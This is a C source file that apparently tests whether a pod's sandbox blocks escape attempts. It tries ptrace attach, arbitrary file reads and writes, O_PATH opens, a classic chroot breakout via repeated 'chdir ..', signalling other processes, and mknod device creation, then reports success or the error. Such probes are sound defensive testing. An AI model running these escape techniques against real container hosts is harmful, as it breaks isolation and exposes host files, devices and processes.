/* Tries to get where a process of a pod must not get: escape WHAT ARGUMENT..., and says "WHAT: done", or why not. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

static int say(const char *what, int result)
{
	printf("%s: %s\n", what, result < 0 ? strerror(errno) : "done");
	fflush(stdout);
	return result < 0;
}

static int attach(pid_t pid)
{
	if (ptrace(PTRACE_ATTACH, pid, 0, 0) < 0 && ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
		return -1;
	return 0;
}

static int read_byte(const char *path)
{
	char byte;
	int fd = open(path, O_RDONLY | O_NONBLOCK);
	return fd < 0 || read(fd, &byte, 1) < 0 ? -1 : 0;
}

/* A file that has no content to show, but a place where it leads. */
static int open_path(const char *path)
{
	return open(path, O_PATH);
}

static int write_back(const char *path)
{
	char bytes[4096];
	int fd = open(path, O_RDWR);
	ssize_t length = fd < 0 ? -1 : read(fd, bytes, sizeof(bytes));
	return length < 0 ? -1 : pwrite(fd, bytes, (size_t)length, 0) < 0 ? -1 : 0;
}

/* The classic: a root below the working directory, and up from there. Says what is up there. */
static int leave_chroot(const char *sign)
{
	if (chroot("/tmp") < 0)
		return -1;
	for (int i = 0; i < 100; i++) {
		if (chdir("..") < 0)
			return -1;
	}
	if (chroot(".") < 0)
		return -1;
	return access(sign, F_OK);
}

static int make_device(const char *type, unsigned major_number, unsigned minor_number)
{
	mode_t mode = *type == 'b' ? S_IFBLK : S_IFCHR;
	const char *path = "/tmp/escape-device";
	unlink(path);
	if (mknod(path, mode | 0600, makedev(major_number, minor_number)) < 0)
		return -1;
	int result = read_byte(path), error = errno;
	unlink(path);
	errno = error;
	return result;
}

int main(int argc, char **argv)
{
	const char *what = argc > 1 ? argv[1] : "", *path = argc > 2 ? argv[2] : "";
	if (strcmp(what, "ptrace") == 0)
		return say(what, attach(atoi(path)));
	if (strcmp(what, "read") == 0)
		return say(path, read_byte(path));
	if (strcmp(what, "path") == 0)
		return say(path, open_path(path));
	if (strcmp(what, "write") == 0)
		return say(path, write_back(path));
	if (strcmp(what, "chroot") == 0)
		return say(what, leave_chroot(path));
	if (strcmp(what, "kill") == 0 && argc == 4)
		return say(what, kill(atoi(path), atoi(argv[3])));
	if (strcmp(what, "mknod") == 0 && argc == 5)
		return say(
			what, make_device(path, (unsigned)atoi(argv[3]), (unsigned)atoi(argv[4])));
	return 2;
}
